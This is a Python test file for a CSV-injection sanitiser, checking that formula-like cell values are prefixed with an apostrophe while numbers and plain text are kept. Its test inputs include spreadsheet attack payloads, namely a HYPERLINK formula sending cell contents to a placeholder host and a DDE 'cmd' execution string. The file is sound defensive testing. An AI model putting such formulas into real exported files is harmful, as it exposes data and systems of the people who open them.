"""The one rule for spreadsheet cells (CSV injection): unsafe text gets an apostrophe, nothing else changes."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st

from ctdata.simulate.writer import _safe
from ctdata.standard.cells import FORMULA_START, SafeDictWriter, is_unsafe, safe_cell, safe_frame, writer

text = st.text(alphabet=st.sampled_from("=+-@\t\r'aZ0.5e ,\"(){}!"), max_size=12)


def test_formulas_are_neutralised_and_numbers_kept() -> None:
    assert safe_cell('=HYPERLINK("http://x/?"&A1)') == '\'=HYPERLINK("http://x/?"&A1)'
    assert safe_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("\t=1") == "'\t=1"
    for kept in ("-5", "+1.5e3", "-.25", "IOM", "", "a=b", 7, -7, -2.5, None, True):
        assert safe_cell(kept) == kept


@given(text)
def test_no_written_text_starts_a_formula(value: str) -> None:
    out = safe_cell(value)
    assert not is_unsafe(out)
    assert out == value or out == "'" + value
    if value[:1] not in FORMULA_START:
        assert out == value


@given(st.lists(text, max_size=8))
def test_columnar_writer_applies_the_same_rule(values: list[str]) -> None:
    got = _safe(pa.array(values, type=pa.string())).to_pylist()
    assert got == [safe_cell(v) for v in values]


def test_frame_changes_text_columns_only() -> None:
    df = pd.DataFrame({"agency": ["=1+1", "IOM", None], "count": [-3, 4, 5], "share": [-0.5, 0.1, None]})
    out = safe_frame(df)
    assert out["agency"].tolist()[:2] == ["'=1+1", "IOM"] and pd.isna(out["agency"].iloc[2])
    assert out["count"].tolist() == [-3, 4, 5] and out["count"].dtype == df["count"].dtype
    assert out["share"].iloc[0] == -0.5
    assert df["agency"].iloc[0] == "=1+1"  # the input is not changed


def test_csv_writers() -> None:
    buf = io.StringIO()
    writer(buf).writerows([["=cmd", -1, "-1"]])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=cmd", "-1", "-1"]
    buf = io.StringIO()
    w = SafeDictWriter(buf, fieldnames=["a"])
    w.writeheader()
    w.writerow({"a": "@x"})
    assert buf.getvalue().splitlines() == ["a", "'@x"]
